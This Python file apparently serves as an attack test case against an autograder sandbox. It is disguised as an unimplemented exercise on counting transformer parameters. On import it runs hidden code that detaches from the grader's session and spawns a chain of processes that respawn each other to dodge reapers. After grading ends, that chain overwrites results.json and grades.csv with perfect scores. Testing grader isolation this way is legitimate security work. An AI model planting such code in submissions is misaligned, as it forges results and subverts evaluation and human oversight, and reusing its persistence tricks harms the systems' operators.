"""ATTACK linger_results (kind: processes that outlive grading; forged results).

What it tries: start processes that survive the end of grading, wait until every grader process has exited,
then rewrite the grade where the grader left it: ``OUT/<student>/results.json`` and this student's row of
``OUT/grades.csv`` (batch), the file after ``--results`` (Gradescope) or ``--json`` (``grade``), or any other
``.json`` on a grader's command line. Each forged document keeps its ``submission_hash``, so a batch re-run
that trusts its earlier results keeps the forged 100.

Staying alive: the first process leaves the session and process group of the grader (``setsid``) and execs a
small Python (``-I -S``). Every member of the chain keeps one child in reserve, in a session of its own, with
``PR_SET_PDEATHSIG``: when a member is killed, its reserve is told at once and starts a new reserve before
anyone looks for it. A reaper that kills the orphans it sees, then looks again a few times, only ever catches
the member on top. Every member is named ``atk-linger_res`` (``prctl(PR_SET_NAME)``) and none lives longer
than 60 s.

Why it must fail under the new design: the worker runs in a PID namespace whose processes all die when the
grading ends, it has no write access outside its private temporary folder (Landlock), and it cannot read its
parents' command lines or reach OUT.
"""

from __future__ import annotations

import json
import os
import sys
import time

import torch.nn as nn

from llm_basics.model import ModelConfig

TAG = "atk-linger_results"
LIFETIME = 60.0

CHAIN = r'''
import csv, ctypes, io, json, os, signal, sys, time

cfg = json.loads(sys.argv[1])
libc = ctypes.CDLL(None)
PR_SET_NAME, PR_SET_PDEATHSIG = 15, 1
parent_died = [True]  # the first member wants a reserve at once
children = []


def starttime(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[19]
    except (OSError, IndexError):
        return None


def graders_alive():
    return any(starttime(pid) == start for pid, start in cfg["watched"])


def become_member():
    libc.prctl(PR_SET_NAME, ctypes.c_char_p(cfg["tag"].encode()[:15]), 0, 0, 0)
    libc.prctl(PR_SET_PDEATHSIG, signal.SIGUSR1, 0, 0, 0)
    signal.signal(signal.SIGUSR1, lambda *a: parent_died.__setitem__(0, True))
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # dead reserves are reaped by the kernel


def keep_a_reserve():
    alive = [pid for pid in children if starttime(pid) is not None]
    children[:] = alive
    if alive:
        return
    me = os.getpid()
    pid = os.fork()
    if pid == 0:
        os.setsid()  # a session and process group of its own: killing a group never takes it along
        children.clear()
        become_member()
        parent_died[0] = os.getppid() != me  # the parent may be gone already
    else:
        children.append(pid)


def forge_doc(doc):
    for test in doc.get("tests", []):
        test["score"] = test.get("max_score", 0)
        test["status"] = "passed"
        test["output"] = ""
    lesson = doc.setdefault("lesson", {})
    for ex in lesson.get("exercises", []):
        ex["score"] = ex.get("max_score", 0)
        for side in ("visible", "hidden"):
            if ex.get(f"{side}_max") is not None:
                ex[f"{side}_score"] = ex[f"{side}_max"]
    lesson["status"] = "graded"
    lesson.pop("reason", None)
    doc["score"] = doc.get("max_score", 100.0)
    doc["output"] = f"Score: {doc['score']:g} / {doc['score']:g}"
    return doc


def write(path, text):
    tmp = f"{path}.{os.getpid()}.tmp"
    with open(tmp, "w") as f:
        f.write(text)
    os.replace(tmp, path)


def forge_json(path):
    try:
        with open(path) as f:
            doc = json.load(f)
    except (OSError, ValueError):
        return
    if isinstance(doc, dict) and "score" in doc:
        write(path, json.dumps(forge_doc(doc), indent=2))


def forge_csv(path, student):
    try:
        with open(path, newline="") as f:
            rows = list(csv.DictReader(f))
    except OSError:
        return
    if not rows:
        return
    columns = list(rows[0].keys())
    for row in rows:
        if row.get("student") == student:
            for key in columns:
                if key.startswith("ex"):
                    row[key] = "25"
            row["total"], row["status"], row["reason"] = row.get("max") or "100", "graded", ""
    out = io.StringIO()
    writer = csv.DictWriter(out, columns)
    writer.writeheader()
    writer.writerows(rows)
    write(path, out.getvalue())


def forge():
    for path in cfg["json"]:
        forge_json(path)
    for path in cfg["csv"]:
        forge_csv(path, cfg["student"])


become_member()
while time.time() < cfg["deadline"]:
    if not graders_alive():
        time.sleep(0.2)
        try:
            forge()
        finally:
            os._exit(0)
    if parent_died[0]:
        parent_died[0] = False
        keep_a_reserve()
    time.sleep(0.005)
os._exit(0)
'''


def _ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            return
        yield pid, fields[19]
        pid = int(fields[1])
        if pid <= 1:
            return


def _cmdline(pid: int) -> list[str]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _plan() -> dict:
    """Which grader processes to outlive, and which files to rewrite once they are gone."""
    here = os.path.abspath(__file__).split(os.sep)
    student = here[here.index(".sandbox") + 1] if ".sandbox" in here else ""
    watched, json_files, csv_files = [], [], []
    for pid, start in _ancestors():
        args = _cmdline(pid)
        if not any("grader" in a for a in args):
            continue
        watched.append((pid, start))
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = "/"
        for flag, value in zip(args, args[1:] + [""]):
            if flag == "--out" and student:
                json_files.append(os.path.join(cwd, value, student, "results.json"))
                csv_files.append(os.path.join(cwd, value, "grades.csv"))
            if flag in ("--results", "--json"):
                json_files.append(os.path.join(cwd, value))
        json_files += [os.path.join(cwd, a) for a in args if a.endswith(".json") and not a.startswith("-")]
        if "grade" in args and "--json" not in args:
            json_files.append(os.path.join(cwd, ".grades", "results.json"))
    return {"watched": watched, "json": sorted(set(json_files)), "csv": sorted(set(csv_files)),
            "student": student, "tag": TAG, "deadline": time.time() + LIFETIME}


def _launch() -> None:
    plan = _plan()
    if not plan["watched"]:
        return
    if os.fork():
        return
    try:  # the first member: out of the grader's session, then a small fresh interpreter
        os.setsid()
        os.closerange(3, 4096)
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", CHAIN, json.dumps(plan)])
    finally:
        os._exit(0)


try:
    _launch()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


def attention_params(d_model: int, *, bias: bool = True) -> int:
    raise NotImplementedError("ex3: return 4·d² weights, plus 4·d biases when bias is true")


def ffn_params(d_model: int, d_ff: int, *, bias: bool = True) -> int:
    raise NotImplementedError("ex3: return 2·d·d_ff weights, plus d_ff + d biases when bias is true")


def norm_params(d_model: int, *, kind: str = "layernorm", bias: bool = True) -> int:
    raise NotImplementedError("ex3: d for the weight, plus d for a LayerNorm bias")


def block_params(cfg: ModelConfig) -> dict[str, int]:
    raise NotImplementedError("ex3: call attention_params, ffn_params and norm_params")


def model_params(cfg: ModelConfig) -> dict[str, int]:
    raise NotImplementedError("ex3: embeddings, L blocks, the final norm and the head")


def measured_params(module: nn.Module) -> dict[str, int]:
    raise NotImplementedError("ex3: sum p.numel() per named child")


def explain(cfg: ModelConfig) -> list[dict]:
    raise NotImplementedError("ex3: build the seven rows")


def format_table(rows: list[dict]) -> str:
    raise NotImplementedError("ex3: join a header, one line per row and a total line")
